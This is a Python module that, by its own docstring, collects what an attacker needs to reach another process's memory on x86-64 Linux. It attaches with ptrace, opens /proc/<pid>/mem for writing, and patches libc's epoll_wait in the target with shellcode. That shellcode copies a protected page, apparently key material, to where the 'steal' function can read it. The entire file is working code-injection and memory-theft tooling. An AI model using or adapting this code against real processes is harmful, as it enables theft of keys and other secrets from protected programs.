"""ptrace(2) and another process's memory, as far as an attacker needs them. x86-64 Linux."""

import ctypes
import os
import re
import signal

SEIZE, CONT, DETACH, GETREGS = 0x4206, 7, 17, 12
OPTION_EXEC, EVENT_EXEC = 0x10, 4

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def ptrace(request, pid, data=0):
    if libc.ptrace(request, pid, None, data) < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))


def stops_at_exec(pid):
    """Lets a seized process run to its next execve, and holds it there; false if it ends instead."""
    while True:
        _, status = os.waitpid(pid, 0)
        if os.WIFEXITED(status) or os.WIFSIGNALED(status):
            return False
        if status >> 8 == signal.SIGTRAP | EVENT_EXEC << 8:
            return True
        passed = 0 if status >> 16 else os.WSTOPSIG(status)
        ptrace(CONT, pid, passed)


class Grip:
    """The memory of a process, had by descriptors that were opened while that was allowed."""

    def __init__(self, pid):
        self.memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        self.maps = os.open(f"/proc/{pid}/maps", os.O_RDONLY)

    def regions(self):
        """(begin, end, permissions, name) of each mapping, as it is now."""
        os.lseek(self.maps, 0, os.SEEK_SET)
        text = b""
        while piece := os.read(self.maps, 65536):
            text += piece
        for line in text.decode("utf-8", "replace").splitlines():
            found = re.match(r"(\w+)-(\w+) (\S+) \S+ \S+ \S+ *(.*)", line)
            yield int(found[1], 16), int(found[2], 16), found[3], found[4]

    def read(self, at, length):
        return os.pread(self.memory, length, at)

    def write(self, at, data):
        os.pwrite(self.memory, data, at)

    def close(self):
        os.close(self.memory)
        os.close(self.maps)


def function_in_libc(name):
    """How far from the beginning of libc's mapping a function stands; the same file is mapped here."""
    here = ctypes.cast(getattr(libc, name), ctypes.c_void_p).value
    with open("/proc/self/maps", encoding="utf-8") as maps:
        for line in maps:
            if "/libc.so" in line or "/libc-" in line:
                return here - int(line.split("-")[0], 16)
    return None


def steal(grip, key_page, poke):
    """Makes the process copy a page that cannot be read from outside to where it can: its next
    epoll_wait does it. `poke()` gives it something to do. Returns the page's bytes."""
    regions = list(grip.regions())
    base = next(begin for begin, _, _, name in regions if "/libc.so" in name or "/libc-" in name)
    data = next(begin for begin, _, rights, name in regions if rights.startswith("rw") and ("/libc.so" in name or "/libc-" in name))
    waits = base + function_in_libc("epoll_wait")
    place = data + 0x800  # overwritten and put back; nothing runs meanwhile but what we poke
    before = grip.read(place, 1024)
    code = (
        b"\x56\x57\x51\x52"  # push rsi, rdi, rcx, rdx
        + b"\x48\xbe" + key_page.to_bytes(8, "little")  # mov rsi, key_page
        + b"\x48\xbf" + place.to_bytes(8, "little")  # mov rdi, place
        + b"\xb9\x00\x04\x00\x00\xf3\xa4"  # mov ecx, 1024; rep movsb
        + b"\x5a\x59\x5f\x5e"  # pop rdx, rcx, rdi, rsi
        + b"\xb8\xe8\x00\x00\x00\x49\x89\xca\x0f\x05\xc3"  # mov eax, 232; mov r10, rcx; syscall; ret
    )
    original = grip.read(waits, len(code))
    grip.write(waits, code)
    poke()
    stolen = grip.read(place, 1024)
    grip.write(waits, original)
    grip.write(place, before)
    return stolen
